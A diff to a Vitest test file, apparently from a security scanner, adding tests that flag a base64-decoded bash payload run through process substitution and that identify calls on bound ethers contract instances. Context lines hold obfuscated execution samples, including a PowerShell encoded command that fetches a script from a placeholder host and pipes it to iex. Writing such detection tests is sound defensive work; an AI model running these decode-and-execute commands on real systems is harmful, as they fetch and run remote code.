@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
-import { isChainSend } from './code/code-facts.js';
+import { contractCallees, isChainSend } from './code/code-facts.js';
 import { javascriptFacts } from './code/javascript/index.js';
 import { pythonFacts } from './code/python-facts.js';
 import { spelledPath } from './code/spelled-path.js';
@@ -29,6 +29,7 @@ describe('encoded commands are judged by what they decode to', () => {
     expect(encodedCommandPayload(`node -e "eval(Buffer.from('${Buffer.from(`require('child_process').exec('${payload}')`).toString('hex')}','hex').toString())"`)).toContain('child_process');
     expect(encodedCommandPayload(`powershell -NoProfile -EncodedCommand ${Buffer.from('iwr https://x.example/a.ps1 | iex', 'utf16le').toString('base64')}`)).toContain('iwr');
     // Decoded data written to a file is not run; a decoded harmless text is not a payload.
+    expect(encodedCommandPayload(`bash <(echo ${b64(payload)} | base64 --decode)`)).toContain('curl');
     expect(encodedCommandPayload(`echo '${b64(payload)}' | base64 -d > notes.txt`)).toBeNull();
     expect(encodedCommandPayload(`eval "$(echo '${b64('export PATH="$HOME/bin:$PATH"')}' | base64 -d)"`)).toBeNull();
   });
@@ -42,6 +43,14 @@ describe('blockchain sends are network sinks', () => {
     expect(isChainSend({ callee: 'provider.send', args: ['eth_sendRawTransaction', null], argStrings: [] })).toBe(true);
     expect(isChainSend({ callee: 'socket.send', args: ['hello'], argStrings: [] })).toBe(false);
     expect(isChainSend({ callee: 'ethers.formatEther', args: [null], argStrings: [] })).toBe(false);
+  });
+  it('calls of a contract instance the file binds, not its plumbing', () => {
+    const calls = contractCallees("const reg = new ethers.Contract(addr, abi, wallet);\nconst c2 = reg.connect(signer);\n");
+    expect(calls('reg.register')).toBe(true);
+    expect(calls('c2.store')).toBe(true);
+    expect(calls('reg.connect')).toBe(false);
+    expect(calls('other.register')).toBe(false);
+    expect(contractCallees('const x = 1;')('x.register')).toBe(false);
   });
 });
 
